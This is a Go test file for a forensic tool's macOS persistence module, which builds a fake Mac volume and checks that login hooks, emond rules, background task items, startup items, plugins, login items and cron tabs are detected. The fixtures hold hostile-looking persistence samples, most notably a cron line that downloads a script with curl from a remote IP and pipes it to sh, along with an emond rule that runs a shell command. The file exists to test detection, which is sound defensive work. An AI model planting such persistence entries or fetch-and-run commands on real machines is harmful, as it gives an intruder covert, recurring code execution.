package persistence

import (
	"slices"
	"strings"
	"testing"

	"github.com/quaestor-engine/quaestor/modules/moduletest"
)

func plistText(body string) string {
	return "<?xml version='1.0'?><plist version='1.0'>" + body + "</plist>"
}

// macHost makes a tree of the volume with the data of a Mac.
func macHost(t *testing.T) string {
	uid := func(n string) string { return "<dict><key>CF$UID</key><integer>" + n + "</integer></dict>" }
	record := func(name, program, link, kind, state string) string {
		return "<dict><key>name</key>" + uid(name) + "<key>executablePath</key>" + uid(program) + "<key>url</key>" + uid(link) +
			"<key>type</key><integer>" + kind + "</integer><key>disposition</key><integer>" + state + "</integer></dict>"
	}
	return tree(t, map[string]string{
		"private/var/db/dslocal/nodes/Default/users/ann.plist": plistText("<dict><key>name</key><array><string>ann</string></array><key>uid</key><array><string>501</string></array><key>home</key><array><string>/Users/ann</string></array></dict>"),
		"Library/Preferences/com.apple.loginwindow.plist":      plistText("<dict><key>LoginHook</key><string>/tmp/hook.sh a</string><key>x</key><true/></dict>"),
		"private/etc/emond.d/rules/a.plist": plistText("<array><dict><key>name</key><string>r</string><key>enabled</key><true/><key>actions</key><array><dict><key>type</key><string>RunCommand</string><key>command</key><string>/bin/sh</string>" +
			"<key>arguments</key><array><string>-c</string><string>id</string></array></dict><dict><key>type</key><string>Log</string></dict></array></dict>" +
			"<dict><key>name</key><string>off</string><key>enabled</key><false/><key>actions</key><array><dict><key>command</key><string>/no</string></dict></array></dict></array>"),
		"private/etc/emond.d/rules/b.plist":                                        "nothing",
		"private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v8.btm": plistText("<dict><key>$objects</key><array><string>$null</string><string>Helper</string><string>/opt/helper</string><dict><key>NS.relative</key>" + uid("4") + "</dict><string>file:///Applications/My%20App.app/</string>" + record("1", "2", "0", "4", "11") + record("0", "0", "3", "2", "1") + record("1", "2", "0", "16", "1") + record("1", "2", "0", "4", "2") + record("1", "99", "0", "4", "1") + "</array></dict>"),
		"Library/StartupItems/Old/Old":                                             "#!/bin/sh\n",
		"Library/StartupItems/Old/StartupParameters.plist":                         "not executable",
		"Library/Security/SecurityAgentPlugins/Steal.bundle/Contents/Info.plist":   plistText("<dict><key>CFBundleExecutable</key><string>Steal</string></dict>"),
		"Users/ann/Library/QuickLook/Q.qlgenerator/Contents/Info.plist":            plistText("<dict><key>CFBundleExecutable</key><string>../../x</string></dict>"),
		"Users/ann/Library/Preferences/com.apple.loginitems.plist":                 plistText("<dict><key>SessionItems</key><dict><key>CustomListItems</key><array><dict><key>Name</key><string>Chat</string><key>Alias</key><data>AAAA</data></dict></array></dict></dict>"),
		"Users/ann/Library/Preferences/loginwindow.plist":                          plistText("<dict><key>AutoLaunchedApplicationDictionary</key><array><dict><key>Path</key><string>/Applications/Old.app</string></dict></array></dict>"),
		"Users/ann/.zshrc":        "true\n",
		"private/var/at/tabs/ann": "*/5 * * * * curl http://192.0.2.9/x | sh\n",
	})
}

func TestMacStartups(t *testing.T) {
	root := macHost(t)
	got, rec := moduletest.Rows(t, startups(), root, []string{"path", "kind", "name", "user", "command", "program"}, nil)
	const btm = "/private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v8.btm"
	want := []string{
		"/Library/Preferences/com.apple.loginwindow.plist | login_hook | LoginHook | root | /tmp/hook.sh a | /tmp/hook.sh",
		"/private/etc/emond.d/rules/a.plist | emond | r | root | /bin/sh -c id | /bin/sh",
		btm + " | login_item | Helper | null | /opt/helper | /opt/helper",
		btm + " | login_item | null | null | /Applications/My App.app | /Applications/My App.app",
		btm + " | login_item | Helper | null | null | null",
		"/Library/StartupItems/Old/Old | startup_item | Old | root | /Library/StartupItems/Old/Old | /Library/StartupItems/Old/Old",
		"/Library/Security/SecurityAgentPlugins/Steal.bundle | plugin | Steal.bundle | root | /Library/Security/SecurityAgentPlugins/Steal.bundle/Contents/MacOS/Steal | /Library/Security/SecurityAgentPlugins/Steal.bundle/Contents/MacOS/Steal",
		"/Users/ann/.zshrc | bashrc | .zshrc | ann | null | null",
		"/Users/ann/Library/Preferences/com.apple.loginitems.plist | login_item | Chat | ann | null | null",
		"/Users/ann/Library/Preferences/loginwindow.plist | login_item | Old.app | ann | /Applications/Old.app | /Applications/Old.app",
		"/Users/ann/Library/QuickLook/Q.qlgenerator | plugin | Q.qlgenerator | ann | null | null",
	}
	if !slices.Equal(got, want) {
		t.Errorf("%s", strings.Join(got, "\n"))
	}
	if s := rec.Skips(); len(s) != 1 || s[0].Where != "/private/etc/emond.d/rules/b.plist:1" {
		t.Errorf("%+v", s)
	}
	got, _ = moduletest.Rows(t, crons(), root, []string{"path", "kind", "user", "command"}, nil)
	if want := []string{"/private/var/at/tabs/ann | user | ann | curl http://192.0.2.9/x | sh"}; !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
}

func FuzzMacStartups(f *testing.F) {
	f.Add([]byte(plistText("<dict><key>LoginHook</key><string>/x</string><key>$objects</key><array><dict><key>type</key><integer>4</integer><key>disposition</key><integer>1</integer></dict></array></dict>")))
	f.Fuzz(func(t *testing.T, text []byte) {
		for _, parse := range []func([]byte) ([]entry, []int){parseLoginHooks, parseEmond, parseLoginItems, parseBackgroundItems} {
			if list, _ := parse(text); len(list) > maxEntries {
				t.Errorf("%d entries", len(list))
			}
		}
	})
}
